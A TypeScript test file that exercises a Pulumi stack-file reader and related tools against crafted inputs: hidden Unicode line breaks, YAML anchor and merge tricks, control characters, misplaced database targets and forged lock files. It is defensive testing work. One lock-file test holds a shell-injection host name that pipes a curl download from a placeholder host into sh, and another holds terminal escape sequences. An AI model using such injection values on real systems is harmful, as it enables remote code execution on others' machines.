// Attacks on the one stack-file reader (issue 18), each found by reading a file with both this
// reader and the Pulumi CLI's YAML library (gopkg.in/yaml.v3 v3.0.1, as the CLI's
// LoadProjectStackBytes does): wherever the two would read a file differently, every tool
// refuses it, so that no tool takes for non-production a stack the CLI deploys as production.
import { strict as assert } from "node:assert";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { main as db } from "../packages/db";
import { main as envSync } from "../tools/envSync/index";
import { checkJsonTarget } from "../tools/plan/jsonFile";
import { loadStack } from "../tools/plan/load";
import { PlanRefused } from "../tools/plan/output";
import { main as stacks } from "../tools/stacks/index";
import { StackFileError, checkProjectFolder, parseStackFile, readStackFile } from "../packages/stack-files/src/stackFile";
import { inProcess, repoRoot } from "./helpers";
import * as tools from "./stackFileTools";
import { EditRefused, editStackFile } from "../tools/common/stackFileWriter";

const refusal = (message: string) => (error: unknown) => {
  assert.ok(error instanceof StackFileError, String(error));
  assert.equal(error.message, message);
  return true;
};

const context = { projectRoot: repoRoot };
const project = "name: trading-bot\nruntime: nodejs\n";

function folderWith(files: Record<string, string>): string {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), "stack-file-attacks-"));
  for (const [name, text] of Object.entries(files)) fs.writeFileSync(path.join(folder, name), text);
  return folder;
}

/**
 * yaml.v3 (YAML 1.1) ends a line at NEL, LS, PS and a lone CR; the `yaml` package (YAML 1.2)
 * only at LF and CRLF. Behind a comment, such a character hides from this reader a line the
 * CLI reads: here `trading-bot:environment: production`, and an open quote that swallows the
 * line this reader sees (`development`). yaml.v3 reads each of these files as production.
 */
const hiddenLineBreaks: [name: string, character: string][] = [
  ["U+0085 (NEL)", "\u0085"],
  ["U+2028 (LINE SEPARATOR)", "\u2028"],
  ["U+2029 (PARAGRAPH SEPARATOR)", "\u2029"],
  ["a carriage return without a line feed", "\r"],
];
const withHiddenLine = (character: string) =>
  `config:\n  trading-bot:app: {}  # note${character}  trading-bot:environment: production${character}  trading-bot:note: "\n  trading-bot:environment: development\n  # "\n`;
const hiddenLineMessage = (fileName: string, name: string) =>
  `${fileName} line 2: holds ${name}, which the Pulumi CLI reads as a line break and these tools do not, so the two would read different settings; use plain line feeds`;

describe("attack: a line hidden from the reader by a line break only the Pulumi CLI's YAML library knows", () => {
  for (const [name, character] of hiddenLineBreaks) {
    it(`refuses a stack file holding ${name} in one line`, () => {
      assert.throws(() => parseStackFile("live", withHiddenLine(character)), refusal(hiddenLineMessage("Pulumi.live.yaml", name)));
    });
  }

  it("refuses a Pulumi.yaml that hides stackConfigDir behind U+0085", () => {
    const folder = folderWith({ "Pulumi.yaml": `name: trading-bot # the project\u0085stackConfigDir: elsewhere\nruntime: nodejs\n` });
    assert.throws(() => checkProjectFolder(folder), refusal(hiddenLineMessage("Pulumi.yaml", "U+0085 (NEL)").replace("line 2", "line 1")));
  });

  it("keeps CRLF line endings readable", () => {
    assert.equal(parseStackFile("dev", "config:\r\n  trading-bot:environment: development\r\n").config["trading-bot:environment"], "development");
  });

  describe("every tool refuses Pulumi.live.yaml hiding production behind U+0085, and writes nothing", () => {
    let folder: string;
    let original: string;
    const message = hiddenLineMessage("Pulumi.live.yaml", "U+0085 (NEL)");
    before(() => {
      folder = folderWith({ "Pulumi.yaml": project, "Pulumi.dev.yaml": "config:\n  trading-bot:environment: development\n" });
      original = withHiddenLine("\u0085");
      fs.writeFileSync(path.join(folder, "Pulumi.live.yaml"), original);
    });
    after(() => assert.equal(fs.readFileSync(path.join(folder, "Pulumi.live.yaml"), "utf8"), original));

    it("env-sync, as a target and as a source", async () => {
      for (const [from, to] of [["dev", "live"], ["live", "dev"]]) {
        const run = await inProcess(() => envSync(["--from", from, "--to", to, "-C", folder], context));
        assert.deepEqual(run, { status: 2, stdout: "", stderr: `env-sync: ${message}\n` });
      }
    });

    it("the db tool, as a target and as a source", async () => {
      const target = await inProcess(() => db(["seed", "--to-url", `sqlite:///${path.join(folder, "live.db")}`, "--to-stack", "live", "-C", folder], context));
      assert.deepEqual(target, { status: 2, stdout: "", stderr: `db: ${message}\n` });
      assert.equal(fs.existsSync(path.join(folder, "live.db")), false);
      const source = await inProcess(() =>
        db(["schema", "--from-url", "postgresql://nobody@127.0.0.1:9/none", "--from-stack", "live", "--to-url", `sqlite:///${path.join(folder, "dev.db")}`, "--to-stack", "dev", "-C", folder], context),
      );
      assert.deepEqual(source, { status: 2, stdout: "", stderr: `db: ${message}\n` });
    });

    it("the plan and stacks", async () => {
      assert.throws(() => loadStack("live", folder, repoRoot), refusal(message));
      const run = await inProcess(() => stacks(["--json", "-C", folder], context));
      assert.deepEqual(run, { status: 2, stdout: "", stderr: `stacks: ${message}\n` });
    });
  });
});

describe("attack: a SQLite target named like a file the Pulumi CLI reads other than a stack file", () => {
  // Pulumi.json is read before Pulumi.yaml: a database under that name breaks every pulumi
  // command in the folder (and every tool here refuses the folder).
  for (const name of ["Pulumi.json", "pulumi.YML", "PulumiPolicy.yaml", "Pulumi.dev.json"]) {
    it(`db seed refuses --to-url sqlite:///…/${name} (exit 2, nothing written)`, async () => {
      const folder = folderWith({ "Pulumi.yaml": project, "Pulumi.dev.yaml": "config:\n  trading-bot:environment: development\n" });
      const run = await inProcess(() => db(["seed", "--to-url", `sqlite:///${path.join(folder, name)}`, "--to-stack", "dev", "-C", folder], context));
      assert.deepEqual(run, {
        status: 2,
        stdout: "",
        stderr: `db: --to-url: ${name} is named like a file the Pulumi CLI reads (Pulumi.yaml, Pulumi.json, Pulumi.<stack>.yaml, PulumiPolicy.yaml, any case): such a file is never used as a database\n`,
      });
      assert.deepEqual(fs.readdirSync(folder).sort(), ["Pulumi.dev.yaml", "Pulumi.yaml"]);
    });
  }
});

describe("attack: -C naming a folder inside a project, whose own stack files the Pulumi CLI never reads", () => {
  // The CLI looks for Pulumi.yaml from its working folder upwards: run in project/sub, it
  // deploys (and reads outputs of) project's stacks, from project's stack files. A stale
  // Pulumi.live.yaml in sub saying development must not make live non-production.
  let projectFolder: string;
  let sub: string;
  before(() => {
    projectFolder = folderWith({ "Pulumi.yaml": project, "Pulumi.live.yaml": "config:\n  trading-bot:environment: production\n" });
    sub = path.join(projectFolder, "copies");
    fs.mkdirSync(sub);
    fs.writeFileSync(path.join(sub, "Pulumi.live.yaml"), "config:\n  trading-bot:environment: development\n");
  });
  const message = () =>
    `${fs.realpathSync(sub)} has no Pulumi.yaml but ${fs.realpathSync(projectFolder)} above it has: the Pulumi CLI run there reads the stack files of ${fs.realpathSync(projectFolder)}, not these; give -C ${fs.realpathSync(projectFolder)}`;

  it("the reader refuses the folder in one line", () => {
    assert.throws(() => checkProjectFolder(sub), refusal(message()));
  });

  it("db seed refuses live as a target from the inner folder (exit 2, nothing written)", async () => {
    const run = await inProcess(() => db(["seed", "--to-url", `sqlite:///${path.join(sub, "live.db")}`, "--to-stack", "live", "-C", sub], context));
    assert.deepEqual(run, { status: 2, stdout: "", stderr: `db: ${message()}\n` });
    assert.equal(fs.existsSync(path.join(sub, "live.db")), false);
  });

  it("the plan refuses it too, and a folder outside any project is still accepted", () => {
    assert.throws(() => loadStack("live", sub, repoRoot), refusal(message()));
    checkProjectFolder(folderWith({ "Pulumi.dev.yaml": "config: {}\n" }));
  });
});

describe("attack: DATA_SYNC_STACK and DATA_SYNC_ENVIRONMENT left in a workstation's shell", () => {
  // The variables speak for a data-sync task's image, which holds no project; in a project
  // folder only the stack file decides, and a stack without one is never taken for development.
  const saved = { stack: process.env.DATA_SYNC_STACK, environment: process.env.DATA_SYNC_ENVIRONMENT };
  before(() => Object.assign(process.env, { DATA_SYNC_STACK: "live", DATA_SYNC_ENVIRONMENT: "development" }));
  after(() => {
    for (const [name, value] of [["DATA_SYNC_STACK", saved.stack], ["DATA_SYNC_ENVIRONMENT", saved.environment]] as const) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
  });

  it("db seed refuses live, which has no stack file in the project folder, as a target (exit 2, nothing written)", async () => {
    const folder = folderWith({ "Pulumi.yaml": project, "Pulumi.dev.yaml": "config:\n  trading-bot:environment: development\n" });
    const run = await inProcess(() => db(["seed", "--to-url", `sqlite:///${path.join(folder, "live.db")}`, "--to-stack", "live", "-C", folder], context));
    assert.deepEqual(run, {
      status: 2,
      stdout: "",
      stderr: `db: live: no Pulumi.live.yaml in ${folder}; the target's stack file says whether it is production (-C names the folder of the stack files)\n`,
    });
    assert.equal(fs.existsSync(path.join(folder, "live.db")), false);
  });

  it("nor from a folder inside a project (where the CLI deploys the project's live)", async () => {
    const folder = folderWith({ "Pulumi.yaml": project });
    const inner = path.join(folder, "scratch");
    fs.mkdirSync(inner);
    const run = await inProcess(() => db(["seed", "--to-url", `sqlite:///${path.join(inner, "live.db")}`, "--to-stack", "live", "-C", inner], context));
    const real = fs.realpathSync(folder);
    assert.deepEqual(run, {
      status: 2,
      stdout: "",
      stderr: `db: ${path.join(real, "scratch")} has no Pulumi.yaml but ${real} above it has: the Pulumi CLI run there reads the stack files of ${real}, not these; give -C ${real}\n`,
    });
    assert.equal(fs.existsSync(path.join(inner, "live.db")), false);
  });
});

describe("attack: a lock file crafted by hand", () => {
  const lockedDev = (holder: object) => {
    const folder = folderWith({ "Pulumi.yaml": project, "Pulumi.dev.yaml": "config:\n  trading-bot:environment: development\n", "Pulumi.qa.yaml": "config:\n  trading-bot:environment: development\n" });
    const lockFile = path.join(folder, "Pulumi.dev.yaml.lock");
    fs.writeFileSync(lockFile, JSON.stringify(holder));
    return { folder, lockFile };
  };
  const startedAt = new Date(Date.now() - 3600_000).toISOString();

  it("never suggests a --break-lock whose host name would run a command when pasted into a shell", async () => {
    const { folder, lockFile } = lockedDev({ pid: 4242, hostname: "ci;curl${IFS}x.invalid|sh", startedAt, command: "env-sync --from qa --to dev" });
    const run = await inProcess(() => envSync(["--from", "qa", "--to", "dev", "-C", folder, "--lock-timeout", "0"], context));
    assert.deepEqual(run, {
      status: 2,
      stdout: "",
      stderr: `env-sync: Pulumi.dev.yaml is locked by a run that does not say who it is (${lockFile} is empty or not a lock file); waited 0 s. If no env-sync or promote is running, delete ${lockFile} and run again\n`,
    });
  });

  it("prints a holder's command with its control characters escaped, never sent to the terminal", async () => {
    const { folder } = lockedDev({ pid: 4242, hostname: "ci-runner-7", startedAt, command: "env-sync\u001b[2J\u001b]0;ok\u0007 done\r\n" });
    const run = await inProcess(() => envSync(["--from", "qa", "--to", "dev", "-C", folder, "--lock-timeout", "0"], context));
    assert.equal(run.status, 2);
    assert.ok(run.stderr.includes("(env-sync\\u001b[2J\\u001b]0;ok\\u0007 done\\r\\n)"), run.stderr);
    assert.doesNotMatch(run.stderr.slice(0, -1), /[\u0000-\u001f\u007f-\u009f]/);
  });
});

describe("attack: a lock on this host whose pid a later process took (a restarted container counts from 1 again)", () => {
  it("names the lock file and what to check, not only 'run again when it has finished'", async () => {
    const folder = folderWith({ "Pulumi.yaml": project, "Pulumi.dev.yaml": "config:\n  trading-bot:environment: development\n", "Pulumi.qa.yaml": "config:\n  trading-bot:environment: development\n" });
    const lockFile = path.join(folder, "Pulumi.dev.yaml.lock");
    const startedAt = new Date(Date.now() - 3 * 86400_000).toISOString();
    // pid 1 always runs (the container's first process); it is not the run that wrote this lock.
    fs.writeFileSync(lockFile, JSON.stringify({ pid: 1, hostname: os.hostname(), startedAt, command: "env-sync --from qa --to dev" }));
    const run = await inProcess(() => envSync(["--from", "qa", "--to", "dev", "-C", folder, "--lock-timeout", "0"], context));
    assert.deepEqual(run, {
      status: 2,
      stdout: "",
      stderr:
        `env-sync: Pulumi.dev.yaml is locked by another run: pid 1 on ${os.hostname()} since ${startedAt} (env-sync --from qa --to dev), 3 days ago; waited 0 s (--lock-timeout). ` +
        `Run again when it has finished; if pid 1 is no env-sync or promote (its number taken by another process since the holder was killed), delete ${lockFile}\n`,
    });
    assert.ok(fs.existsSync(lockFile));
  });
});

describe("attack: a stack file the Pulumi CLI refuses to load, which the tools would have read (and written) as development", () => {
  const refusedByTheCli: [what: string, text: string, message: string][] = [
    ["a NUL in a comment", "config:\n  trading-bot:environment: development # \u0000\n", "Pulumi.qa.yaml line 2: holds the control character U+0000, which the Pulumi CLI refuses; remove it"],
    ["a C1 control character", "config:\n  trading-bot:environment: development\u0090\n", "Pulumi.qa.yaml line 2: holds the control character U+0090, which the Pulumi CLI refuses; remove it"],
    ["a %YAML 1.2 directive", "%YAML 1.2\n---\nconfig:\n  trading-bot:environment: development\n", "Pulumi.qa.yaml line 1: %YAML 1.2, which the Pulumi CLI refuses (it reads %YAML 1.1 only); remove the directive"],
    ["two merge keys in one mapping", "config:\n  <<: {trading-bot:environment: development}\n  <<: {trading-bot:environment: production}\n",
      "Pulumi.qa.yaml line 3: a second << merge key in one mapping, which the Pulumi CLI refuses; merge a list instead: <<: [*first, *second]"],
    ["a << key tagged !!str (a plain key to the CLI, merged by the yaml package)", "config:\n  !!str <<: {trading-bot:environment: development}\n",
      "Pulumi.qa.yaml line 2: a << key tagged !!str, which the Pulumi CLI reads as a plain key and the yaml package merges; remove the tag"],
    ["a merge of an alias to a list", "l: &l [{trading-bot:environment: development}]\nconfig:\n  <<: *l\n",
      "Pulumi.qa.yaml line 3: a << merge of an alias to a list, which the Pulumi CLI refuses; merge a list of aliases instead: <<: [*first, *second]"],
    ["a number as a key", "config:\n  trading-bot:environment: development\n  1: x\n", "Pulumi.qa.yaml line 3: the key 1 is not text, which the Pulumi CLI refuses; quote it"],
    ["true as a key", "config:\n  trading-bot:environment: development\n  trading-bot:app: {true: x}\n", "Pulumi.qa.yaml line 3: the key true is not text, which the Pulumi CLI refuses; quote it"],
    ["an empty key", "config:\n  trading-bot:environment: development\n  ~: x\n", "Pulumi.qa.yaml line 3: the key null is not text, which the Pulumi CLI refuses; quote it"],
    ...["ZGV2ZWxvcG1lbnQ", "ZGV2 ZWxvcG1lbnQ=", "ZGV2ZWxvcG1lbnQ=!", "ZGV2ZWxvcG1lbnQ=cHJvZA==", "ZGV2ZWxvcG1lbnQ-"].map((base64): [string, string, string] => [
      `!!binary ${base64}`, `config:\n  trading-bot:environment: !!binary "${base64}"\n`,
      "Pulumi.qa.yaml line 2: a !!binary value is not base64 as the Pulumi CLI decodes it (A-Z, a-z, 0-9, + and /, padded with =, line breaks allowed); write the value out",
    ]),
  ];
  for (const [what, text, message] of refusedByTheCli) {
    it(`refuses ${what} in one line`, () => {
      assert.throws(() => parseStackFile("qa", text), refusal(message));
    });
  }

  it("refuses a file that is not UTF-8 (the CLI refuses it), keeping a byte order mark readable", () => {
    const folder = folderWith({ "Pulumi.yaml": project });
    fs.writeFileSync(path.join(folder, "Pulumi.qa.yaml"), Buffer.concat([Buffer.from("config:\n  trading-bot:environment: development # "), Buffer.from([0xff, 0xfe]), Buffer.from("\n")]));
    assert.throws(() => readStackFile(folder, "qa"), refusal("Pulumi.qa.yaml is not UTF-8 text, which the Pulumi CLI refuses; save it as UTF-8"));
    fs.writeFileSync(path.join(folder, "Pulumi.qa.yaml"), "\uFEFFconfig:\n  trading-bot:environment: development\n");
    assert.ok(readStackFile(folder, "qa").text.startsWith("\uFEFF"));
  });

  it("still reads a !!binary block with line breaks, a key from an alias, and a merge list", () => {
    const file = parseStackFile("qa", "k: &k trading-bot:environment\nm: &m {trading-bot:app: {}}\nconfig:\n  <<: [*m]\n  *k : !!binary |\n    ZGV2ZWxv\n    cG1lbnQ=\n");
    assert.deepEqual(file.config, { "trading-bot:environment": "development", "trading-bot:app": {} });
  });
});

describe("attack: the terminal closes mid-write (SIGHUP)", () => {
  it("removes its lock and temporary file and leaves the old file (exit 129)", async () => {
    const staging = tools.committed("staging").replace("logFormat: json", "logFormat: text");
    const folder = tools.folderWith({ dev: tools.committed("dev"), staging });
    const writer = tools.startTool("envSync", folder, ["--from", "staging", "--to", "dev"], tools.pauseAt("temporary file written", 60000));
    await writer.waitForStderr(tools.pauseMarker("temporary file written"));
    writer.child.kill("SIGHUP");
    const end = await writer.finished;
    assert.equal(end.status, 129, end.stderr);
    assert.equal(tools.read(folder, "dev"), tools.committed("dev"));
    assert.deepEqual(fs.readdirSync(folder).sort(), [".pulumi-backups", "Pulumi.dev.yaml", "Pulumi.staging.yaml"]);
  });
});

describe("attack: an editor saves the target in place while a run holds its lock", () => {
  it("refuses to rename over the edit (exit 2): the edit is kept, nothing of it lost", async () => {
    const staging = tools.committed("staging").replace("logFormat: json", "logFormat: text");
    const folder = tools.folderWith({ dev: tools.committed("dev"), staging });
    const writer = tools.startTool("envSync", folder, ["--from", "staging", "--to", "dev"], tools.pauseAt("temporary file synced", 3000));
    await writer.waitForStderr(tools.pauseMarker("temporary file synced"));
    // Same file, new content: an editor's save, which takes no lock.
    const edited = `${tools.committed("dev")}# saved by an editor\n`;
    fs.writeFileSync(tools.stackPath(folder, "dev"), edited);
    const end = await writer.finished;
    assert.equal(end.status, 2, end.stderr);
    assert.match(end.stderr, /^env-sync: refusing to write Pulumi\.dev\.yaml: it was changed while this run held its lock \(an editor or a tool that takes no lock\); nothing written, run again$/m);
    assert.equal(tools.read(folder, "dev"), edited);
    assert.deepEqual(tools.leftovers(folder).filter((name) => !name.startsWith(".pulumi-backups")), []);
  });
});

describe("attack: a YAML anchor in a copied value takes over an alias of the target", () => {
  // dev's environment is `*env`, an alias of `&env development` above; staging's first strategy
  // name is anchored `&env production`. Copied into dev's tradingConfig (before the alias), the
  // anchor would be the nearest `&env`: dev would read as production, which env-sync never
  // meant to write (and dev, without data-sync imports, passes the schema as production).
  const dev = `defaults:\n  env: &env development\n${tools.committed("dev").replace("  trading-bot:environment: development\n", "").replace(/ {2}trading-bot:dataSync:\n( {4}.*\n)+/, "")}  trading-bot:environment: *env\n`;
  const staging = tools.committed("staging").replace(/(strategies:\n\s+- name: )\S+/, "$1&env production");

  it("env-sync refuses to copy a value holding an anchor (exit 2, nothing written)", async () => {
    const folder = tools.folderWith({ dev, staging });
    fs.writeFileSync(path.join(folder, "Pulumi.yaml"), project);
    assert.equal(parseStackFile("dev", dev).config["trading-bot:environment"], "development");
    const run = await inProcess(() => envSync(["--from", "staging", "--to", "dev", "-C", folder], context));
    assert.deepEqual(run, {
      status: 2,
      stdout: "",
      stderr: "env-sync: Pulumi.staging.yaml: trading-bot:tradingConfig holds a YAML anchor (&name), which copied could take over an alias of Pulumi.dev.yaml; write it without the anchor to copy it\n",
    });
    assert.equal(tools.read(folder, "dev"), dev);
  });

  it("the writer refuses any edit that would change the target's environment", async () => {
    const folder = tools.folderWith({ dev: tools.committed("dev") });
    fs.writeFileSync(path.join(folder, "Pulumi.yaml"), project);
    await assert.rejects(
      editStackFile({
        directory: folder,
        stack: "dev",
        dryRun: false,
        lock: { timeoutSeconds: 0, command: "test" },
        admit: () => undefined,
        plan: (target) => ({ updatedText: target.text.replace("trading-bot:environment: development", "trading-bot:environment: staging") }),
      }),
      (error: unknown) => {
        assert.ok(error instanceof EditRefused, String(error));
        assert.equal(error.message, 'refusing to write Pulumi.dev.yaml: the edit would change trading-bot:environment from "development" to "staging", which no tool here edits; nothing written');
        return true;
      },
    );
    assert.equal(tools.read(folder, "dev"), tools.committed("dev"));
    assert.deepEqual(tools.leftovers(folder), []);
  });
});

describe("attack: a plan or a database written inside a .pulumi folder (a file backend's state, the CLI's settings)", () => {
  it("the plan refuses --json .pulumi/stacks/trading-bot/live.json, in any case, writing nothing", () => {
    const folder = folderWith({});
    for (const inner of [".pulumi/stacks/trading-bot", ".Pulumi/workspaces"]) {
      fs.mkdirSync(path.join(folder, inner), { recursive: true });
      const file = path.join(folder, inner, "live.json");
      assert.throws(() => checkJsonTarget(file), (error: unknown) => {
        assert.ok(error instanceof PlanRefused, String(error));
        assert.equal(error.message, `--json ${file}: a plan is never written inside a .pulumi folder, where the Pulumi CLI keeps a file backend's state and its own settings; give a name such as plan-dev.json`);
        return true;
      });
      assert.deepEqual(fs.readdirSync(path.join(folder, inner)), []);
    }
  });

  it("db seed refuses a SQLite target inside .pulumi (exit 2, nothing written)", async () => {
    const folder = folderWith({ "Pulumi.yaml": project, "Pulumi.dev.yaml": "config:\n  trading-bot:environment: development\n" });
    fs.mkdirSync(path.join(folder, ".pulumi"));
    const file = path.join(folder, ".pulumi", "dev.json");
    const run = await inProcess(() => db(["seed", "--to-url", `sqlite:///${file}`, "--to-stack", "dev", "-C", folder], context));
    assert.deepEqual(run, { status: 2, stdout: "", stderr: `db: --to-url: ${file} is inside a .pulumi folder, where the Pulumi CLI keeps a file backend's state and its own settings: a database is never written there\n` });
    assert.deepEqual(fs.readdirSync(path.join(folder, ".pulumi")), []);
  });
});
